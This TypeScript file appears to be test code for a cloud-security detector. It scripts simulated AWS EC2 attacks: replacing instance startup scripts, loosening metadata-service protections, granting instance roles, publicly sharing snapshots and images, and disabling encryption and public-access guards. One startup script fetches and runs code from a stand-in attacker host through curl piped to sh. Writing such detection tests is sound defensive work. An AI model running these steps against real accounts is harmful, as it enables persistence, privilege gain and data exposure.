/** Attacks on machines and what they are made from: instances, snapshots, images, guards of the account. */
import { ACCOUNT, type Attack, type Aws, fresh, type Json, type Made } from './attack.ts';

const ec2 = async (aws: Aws, operation: string, input: Json = {}, member = ''): Promise<Json> => {
  const answer = await aws('ec2', operation, input);
  const found = member === '' ? answer : answer[member];
  return (Array.isArray(found) ? found[0] : found) as Json;
};
const SCRIPT = Buffer.from('#!/bin/sh\nexec /opt/shop/start\n').toString('base64');
const THEFT = Buffer.from('#!/bin/sh\ncurl http://thief.example | sh\n').toString('base64');
const machine = async (aws: Aws, parts: Json = {}) => {
  const image = await ec2(aws, 'DescribeImages', {}, 'Images');
  const input = { ImageId: image['ImageId'], MinCount: 1, MaxCount: 1, InstanceType: 't3.micro', ...parts };
  const instance = await ec2(aws, 'RunInstances', input, 'Instances');
  return { id: String(instance['InstanceId']), network: String(instance['VpcId']) };
};
const instanceOf = async (aws: Aws, id: string | undefined) => {
  const reservation = await ec2(aws, 'DescribeInstances', { InstanceIds: [id] }, 'Reservations');
  return (reservation['Instances'] as Json[])[0] ?? {};
};
const startup = async (aws: Aws, { id }: Made) => {
  const asked = await ec2(aws, 'DescribeInstanceAttribute', { InstanceId: id, Attribute: 'userData' }, 'UserData');
  const { SecurityGroups } = await instanceOf(aws, id);
  return { runs: asked['Value'], groups: (SecurityGroups as Json[]).map(({ GroupName }) => GroupName) };
};
const replaceStartup = async (aws: Aws, { id = '' }: Made) => {
  await ec2(aws, 'ModifyInstanceAttribute', { InstanceId: id, Attribute: 'userData', Value: THEFT });
  return {
    event: 'ec2:ModifyInstanceAttribute',
    request: { instanceId: id, userData: '<sensitiveDataRemoved>' },
    recorded: { of: 'aws.execution.ec2-user-data', names: { 'i-DDd6c7B0e18F0E35f': id } },
  };
};
const profile = async (aws: Aws) => {
  const name = fresh('machine');
  await aws('iam', 'CreateInstanceProfile', { InstanceProfileName: name });
  return name;
};
const profileLook = async (aws: Aws, { id }: Made) => {
  const Filters = [{ Name: 'instance-id', Values: [id] }];
  const { IamInstanceProfileAssociations } = await aws('ec2', 'DescribeIamInstanceProfileAssociations', { Filters });
  const all = IamInstanceProfileAssociations as Json[];
  return all.filter(({ State }) => State === 'associated').map(({ IamInstanceProfile }) => IamInstanceProfile);
};
const associate = async (aws: Aws, id: string | undefined, Name: string | undefined) =>
  ec2(
    aws,
    'AssociateIamInstanceProfile',
    { InstanceId: id, IamInstanceProfile: { Name } },
    'IamInstanceProfileAssociation',
  );

const MACHINES: readonly Attack[] = [
  {
    row: 37,
    name: 'a stopped machine is given another start',
    before: async (aws) => {
      const made = await machine(aws, { UserData: SCRIPT });
      await ec2(aws, 'StopInstances', { InstanceIds: [made.id] });
      return made;
    },
    names: ({ id }) => ({ event: 'ec2:ModifyInstanceAttribute', request: { instanceId: id, userData: '' } }),
    attack: replaceStartup,
    look: startup,
  },
  {
    row: 37,
    name: 'a machine that runs was given another start: it is cut off',
    before: async (aws) => {
      const made = await machine(aws, { UserData: SCRIPT });
      const wall = { GroupName: 'countersign-isolation', Description: 'nothing', VpcId: made.network };
      await ec2(aws, 'CreateSecurityGroup', wall).catch(() => null);
      return made;
    },
    names: ({ id }) => ({ event: 'ec2:ModifyInstanceAttribute', request: { instanceId: id, userData: '' } }),
    attack: replaceStartup,
    look: startup,
    becomes: () => ({ runs: THEFT, groups: ['countersign-isolation'] }),
  },
  {
    row: 37,
    name: "a machine's credentials can be asked for by anybody who gets it to ask",
    before: async (aws) => {
      const made = await machine(aws);
      const strict = { HttpTokens: 'required', HttpEndpoint: 'enabled', HttpPutResponseHopLimit: 1 };
      const rest = { HttpProtocolIpv6: 'disabled', InstanceMetadataTags: 'disabled' };
      await ec2(aws, 'ModifyInstanceMetadataOptions', { InstanceId: made.id, ...strict, ...rest });
      return made;
    },
    names: ({ id }) => ({ event: 'ec2:ModifyInstanceMetadataOptions', request: { InstanceId: id } }),
    attack: async (aws, { id }) => {
      const loose = { HttpTokens: 'optional', HttpPutResponseHopLimit: 64, HttpEndpoint: 'enabled' };
      const rest = { HttpProtocolIpv6: 'disabled', InstanceMetadataTags: 'disabled' };
      await ec2(aws, 'ModifyInstanceMetadataOptions', { InstanceId: id, ...loose, ...rest });
      const request = { ModifyInstanceMetadataOptionsRequest: { InstanceId: id, ...loose } };
      return { event: 'ec2:ModifyInstanceMetadataOptions', request };
    },
    look: async (aws, { id }) => (await instanceOf(aws, id))['MetadataOptions'],
  },
  {
    row: 37,
    name: 'a machine is given rights that it did not have',
    before: async (aws) => ({ ...(await machine(aws)), profile: await profile(aws) }),
    attack: async (aws, { id, profile: Name }) => {
      const { AssociationId } = await associate(aws, id, Name);
      const request = { AssociateIamInstanceProfileRequest: { InstanceId: id, IamInstanceProfile: { Name } } };
      const arn = `arn:aws:iam::${ACCOUNT}:instance-profile/${Name}`;
      const told = { associationId: AssociationId, instanceId: id, iamInstanceProfile: { arn }, state: 'associating' };
      const response = { AssociateIamInstanceProfileResponse: { iamInstanceProfileAssociation: told } };
      return { event: 'ec2:AssociateIamInstanceProfile', request, response };
    },
    look: profileLook,
  },
  {
    row: 37,
    name: 'a machine is given other rights',
    before: async (aws) => {
      const made = await machine(aws);
      const { AssociationId } = await associate(aws, made.id, await profile(aws));
      return { ...made, association: String(AssociationId), profile: await profile(aws) };
    },
    names: ({ id }) => ({
      event: 'ec2:ReplaceIamInstanceProfileAssociation',
      request: {},
      response: { iamInstanceProfileAssociation: { instanceId: id } },
    }),
    attack: async (aws, { id, association, profile: Name }) => {
      const input = { AssociationId: association, IamInstanceProfile: { Name } };
      const made = await ec2(aws, 'ReplaceIamInstanceProfileAssociation', input, 'IamInstanceProfileAssociation');
      const request = { ReplaceIamInstanceProfileAssociationRequest: input };
      const arn = `arn:aws:iam::${ACCOUNT}:instance-profile/${Name}`;
      const told = { associationId: made['AssociationId'], instanceId: id, iamInstanceProfile: { arn } };
      const response = { ReplaceIamInstanceProfileAssociationResponse: { iamInstanceProfileAssociation: told } };
      return { event: 'ec2:ReplaceIamInstanceProfileAssociation', request, response };
    },
    look: profileLook,
  },
];

const snapshot = async (aws: Aws) => {
  const { VolumeId } = await ec2(aws, 'CreateVolume', { AvailabilityZone: 'us-east-1a', Size: 1 });
  return String((await ec2(aws, 'CreateSnapshot', { VolumeId }))['SnapshotId']);
};
const share = (aws: Aws, kind: 'Snapshot' | 'Image', id: string | undefined, to: Json) =>
  ec2(aws, `Modify${kind}Attribute`, {
    [`${kind}Id`]: id,
    Attribute: kind === 'Image' ? 'launchPermission' : 'createVolumePermission',
    OperationType: 'add',
    ...to,
  });
const snapshotLook = async (aws: Aws, { id }: Made) =>
  (await ec2(aws, 'DescribeSnapshotAttribute', { SnapshotId: id, Attribute: 'createVolumePermission' }))[
    'CreateVolumePermissions'
  ];

const SHARES: readonly Attack[] = [
  ...[{ UserIds: ['999988887777'] }, { GroupNames: ['all'] }].map(
    (to): Attack => ({
      row: 34,
      name: `a snapshot is shared with ${'UserIds' in to ? 'a stranger' : 'everybody'}`,
      before: async (aws) => {
        const id = await snapshot(aws);
        await share(aws, 'Snapshot', id, { UserIds: ['111122223333'] });
        return { id };
      },
      attack: async (aws, { id }) => {
        await share(aws, 'Snapshot', id, to);
        const item = 'UserIds' in to ? { userId: '999988887777' } : { group: 'all' };
        const createVolumePermission = { add: { items: [item] } };
        return {
          event: 'ec2:ModifySnapshotAttribute',
          request: { snapshotId: id, attributeType: 'CREATE_VOLUME_PERMISSION', createVolumePermission },
        };
      },
      look: snapshotLook,
    }),
  ),
  {
    row: 34,
    name: 'an image is shared with everybody, a stranger and a foreign organisation',
    before: async (aws) => {
      const { id } = await machine(aws);
      const { ImageId } = await ec2(aws, 'CreateImage', { InstanceId: id, Name: fresh('golden') });
      await share(aws, 'Image', String(ImageId), { UserIds: ['111122223333'] });
      return { id: String(ImageId) };
    },
    attack: async (aws, { id }) => {
      const organizationArn = 'arn:aws:organizations::444455556666:organization/o-abcdefghij';
      const to = { UserIds: ['999988887777'], UserGroups: ['all'], OrganizationArns: [organizationArn] };
      await share(aws, 'Image', id, to);
      const items = [{ userId: '999988887777' }, { group: 'all' }, { organizationArn }];
      const request = { attributeType: 'launchPermission', imageId: id, launchPermission: { add: { items } } };
      return { event: 'ec2:ModifyImageAttribute', request };
    },
    look: async (aws, { id }) =>
      (await ec2(aws, 'DescribeImageAttribute', { ImageId: id, Attribute: 'launchPermission' }))['LaunchPermissions'],
  },
  {
    row: 36,
    name: 'new volumes are no longer encrypted',
    before: async (aws) => {
      await ec2(aws, 'EnableEbsEncryptionByDefault');
      return {};
    },
    attack: async (aws) => {
      await ec2(aws, 'DisableEbsEncryptionByDefault');
      return { event: 'ec2:DisableEbsEncryptionByDefault', request: { DisableEbsEncryptionByDefaultRequest: {} } };
    },
    look: async (aws) => (await ec2(aws, 'GetEbsEncryptionByDefault'))['EbsEncryptionByDefault'],
  },
];

const GUARDS: readonly Attack[] = [
  ...(['Snapshot', 'Image'] as const).map((kind): Attack => {
    const member = kind === 'Image' ? 'ImageBlockPublicAccessState' : 'State';
    return {
      row: 36,
      name: `a ${kind.toLowerCase()} may be shared with everybody again`,
      before: async (aws) => {
        await ec2(aws, `Enable${kind}BlockPublicAccess`, {
          [member]: kind === 'Image' ? 'block-new-sharing' : 'block-all-sharing',
        });
        return {};
      },
      names: () => ({ event: `ec2:Disable${kind}BlockPublicAccess`, request: {} }),
      attack: async (aws) => {
        await ec2(aws, `Disable${kind}BlockPublicAccess`);
        const request = { [`Disable${kind}BlockPublicAccessRequest`]: '' };
        return { event: `ec2:Disable${kind}BlockPublicAccess`, request };
      },
      look: async (aws) => (await ec2(aws, `Get${kind}BlockPublicAccessState`))[member],
    };
  }),
  {
    row: 36,
    name: 'machines can be reached by their serial console',
    before: () => Promise.resolve({}),
    attack: async (aws) => {
      await ec2(aws, 'EnableSerialConsoleAccess');
      return {
        event: 'ec2:EnableSerialConsoleAccess',
        request: { EnableSerialConsoleAccessRequest: '' },
        recorded: { of: 'aws.lateral-movement.ec2-serial-console-send-ssh-public-key', names: {} },
      };
    },
    look: async (aws) => (await ec2(aws, 'GetSerialConsoleAccessStatus'))['SerialConsoleAccessEnabled'],
  },
];

export const MACHINE_ATTACKS: readonly Attack[] = [...MACHINES, ...SHARES, ...GUARDS];
